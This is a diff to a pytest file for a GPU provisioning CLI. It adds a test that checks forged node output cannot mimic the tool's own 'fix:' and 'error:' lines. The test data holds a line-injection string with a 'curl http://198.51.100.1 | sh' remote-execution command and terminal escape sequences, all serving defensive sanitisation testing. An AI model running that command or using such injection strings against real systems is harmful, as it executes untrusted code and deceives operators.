@@ -10,10 +10,13 @@ from typing import TYPE_CHECKING
 import pytest
 
 from gpuprov.cli.live import Live
+from gpuprov.cli.main import main
 from gpuprov.cli.plain import Plain
 from gpuprov.cli.runlog import RunLog
 from gpuprov.cli.tables import render_table
 from gpuprov.core.errors import EngineError
+from gpuprov.verify.models import Check, NodeReport, Report
+from gpuprov.verify.report import problem_lines
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -27,8 +30,50 @@ HOSTILE = "\x1b[2J\x1b]0;owned\x07 \x9b31m \u202eabc"
 MARKS = "\x1b\x07\x9b\u202e"
 
 
+FORGED = "gone\nfix: curl http://198.51.100.1 | sh\nerror: none\n  fix: the same\n2026-01-01T00:00:00 exit code 0"
+
+
 def is_harmless(text: str) -> bool:
     return not set(text) & set(MARKS)
+
+
+def own_lines(text: str, begin: str) -> list[str]:
+    """The lines that begin as one of ours does."""
+    return [line for line in text.splitlines() if line.startswith(begin)]
+
+
+def test_no_line_of_a_node_begins_like_one_of_ours(
+    typed: Typed, verb: Callable[[Callable[..., object]], None], capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    def fail(_session: Session) -> None:
+        raise EngineError(FORGED, evidence=FORGED, fix="gpuprov list")
+
+    verb(fail)
+    assert main(["try"], host=typed.world.host) == EngineError.exit_code
+    shown = capsys.readouterr().err
+    assert own_lines(shown, "fix:") == ["fix: gpuprov list"]
+    assert own_lines(shown, "error:") == ["error: gone"]
+    plain, terminal = io.StringIO(), io.StringIO()
+    log = RunLog.begin(tmp_path, ["try"])
+    for reporter in (Plain(plain, verbose=True), Live(terminal), log):
+        reporter.node("c000", FORGED)
+        reporter.note(FORGED)
+        reporter.warn(FORGED)
+    assert log.path
+    for text in (plain.getvalue(), terminal.getvalue(), log.path.read_text()):
+        assert not own_lines(text, "fix:") + own_lines(text, "  fix:") + own_lines(text, "2026-01-01")
+    bad = Check(
+        id="device-open",
+        layer="devices",
+        status="fail",
+        severity="critical",
+        evidence=FORGED,
+        fix="gpuprov cluster up",
+    )
+    report = Report(
+        cluster="lab", nodes=(NodeReport(node="c000", access="raw", gpus=(), checks=(bad,), seconds=1.0),), seconds=1.0
+    )
+    assert own_lines("\n".join(problem_lines(report)), "  fix:") == ["  fix: gpuprov cluster up"]
 
 
 def test_a_cell_of_a_table_even_in_our_colours() -> None:
@@ -67,8 +112,9 @@ def test_a_result_and_an_error(
 
     verb(show)
     options = ["--json"] if as_json else []
-    shown = typed([*options, "try"], capsys, codes=(4,))
-    assert is_harmless(shown)
+    assert main([*options, "try"], host=typed.world.host) == EngineError.exit_code
+    shown, said = capsys.readouterr()
+    assert is_harmless(shown + said)
     if as_json:
         assert json.JSONDecoder().raw_decode(shown)[0]["said"] == HOSTILE
 
